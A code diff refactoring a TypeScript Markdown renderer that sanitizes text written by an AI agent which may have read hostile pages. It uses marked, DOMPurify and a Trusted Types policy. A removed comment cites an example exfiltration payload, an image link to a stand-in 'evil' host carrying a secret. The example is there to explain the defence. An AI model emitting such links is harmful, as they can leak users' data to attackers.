@@ -1,15 +1,7 @@
 /**
- * `pedelec-elements/markdown` — the Markdown renderer `<pedelec-chat markdown>` loads on first use (a
- * separate entry, so the main file does not grow). Built on `marked` and `DOMPurify`, locked down for
- * text written by an agent that may have read hostile pages:
- * - raw HTML in the Markdown is shown as text, never parsed;
- * - images become links, so `![](https://evil/?d=secret)` loads nothing;
- * - only `p br hr h1–h6 strong em del code pre blockquote ul ol li a table…` survive — no `img`,
- *   `iframe`, `form`, `style`, `svg`, `math`, no `style` or event attributes;
- * - links only to absolute `http:`, `https:` and `mailto:` URLs, opened in a new tab with
- *   `rel="noopener noreferrer nofollow"`;
- * - the HTML goes into the DOM only through the Trusted Types policy `pedelec-elements`, whose
- *   `createHTML` is the sanitizer itself (DOMPurify needs `dompurify` allowed too).
+ * The sanitized Markdown of `pedelec-elements/markdown` (./markdown.ts): `marked` configured for text
+ * written by an agent that may have read hostile pages, and `DOMPurify` behind the Trusted Types
+ * policy `pedelec-elements` (what it lets through is listed in ./markdown.ts).
  */
 import DOMPurify from 'dompurify';
 import { Marked, Tokenizer, type Token, type Tokens } from 'marked';
@@ -47,7 +39,8 @@ function urlEnd(raw: string): number {
   }
 }
 
-const marked = new Marked({
+/** The Markdown parser, configured: its tokens render through {@link renderTokens}. */
+export const marked = new Marked({
   gfm: true,
   breaks: true,
   renderer: {
@@ -129,17 +122,30 @@ try {
   // The page's CSP does not allow our policy: render plain text rather than fail.
 }
 
-/** Renders agent Markdown as a sanitized fragment (plain text when the page's CSP forbids the policy). */
-export function renderMarkdown(markdown: string): DocumentFragment {
+/** Whether Markdown can be rendered at all: without the policy (the page's CSP), it shows as plain text. */
+export const sanitizing = policy !== null;
+
+/**
+ * Block tokens of {@link marked} as sanitized nodes. Blocks render alone exactly as within the whole
+ * text (each is its own complete HTML), so a text can be rendered block by block.
+ */
+export function renderTokens(tokens: Token[]): DocumentFragment {
+  marked.walkTokens(tokens, marked.defaults.walkTokens!);
   const template = document.createElement('template');
-  if (!policy) {
-    template.content.append(markdown);
-    return template.content;
-  }
-  template.innerHTML = policy.createHTML(marked.parse(markdown, { async: false }));
+  template.innerHTML = policy!.createHTML(marked.parser(tokens));
   for (const a of template.content.querySelectorAll('a[href]')) {
     a.setAttribute('target', '_blank');
     a.setAttribute('rel', 'noopener noreferrer nofollow');
   }
   return template.content;
+}
+
+/** Renders agent Markdown as a sanitized fragment (plain text when the page's CSP forbids the policy). */
+export function renderMarkdown(markdown: string): DocumentFragment {
+  if (!policy) {
+    const template = document.createElement('template');
+    template.content.append(markdown);
+    return template.content;
+  }
+  return renderTokens(marked.lexer(markdown));
 }
